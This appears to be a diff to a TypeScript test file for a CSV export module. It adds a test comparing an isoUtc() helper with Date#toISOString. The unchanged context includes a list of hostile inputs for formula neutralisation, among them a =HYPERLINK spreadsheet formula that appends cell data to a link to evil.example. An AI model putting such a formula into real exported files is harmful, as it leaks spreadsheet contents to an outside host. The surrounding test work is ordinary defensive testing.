@@ -3,6 +3,7 @@ import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { csvField, csvRecord, neutraliseFormula } from '../../server/export/csv-format.ts';
+import { isoUtc } from '../../server/export/iso-time.ts';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -63,4 +64,10 @@ test('csvRecord() writes byte for byte what csv-stringify writes for the same ne
   const ours = rows.map(csvRecord).join('');
   const theirs = stringify(rows, { record_delimiter: '\r\n', quoted_match: /\r/ });
   assert.equal(ours, theirs);
+});
+
+test('isoUtc() formats exactly as Date#toISOString', () => {
+  const samples = [0, 1, 999, 86_399_999, 86_400_000, Date.UTC(2026, 10, 26, 23, 59, 59, 999), Date.UTC(2024, 1, 29, 12), 253_402_300_799_999, 1.5];
+  for (let i = 0; i < 2000; i++) samples.push(Math.floor(Math.random() * 4_102_444_800_000));
+  for (const ms of samples) assert.equal(isoUtc(ms), new Date(ms).toISOString(), String(ms));
 });
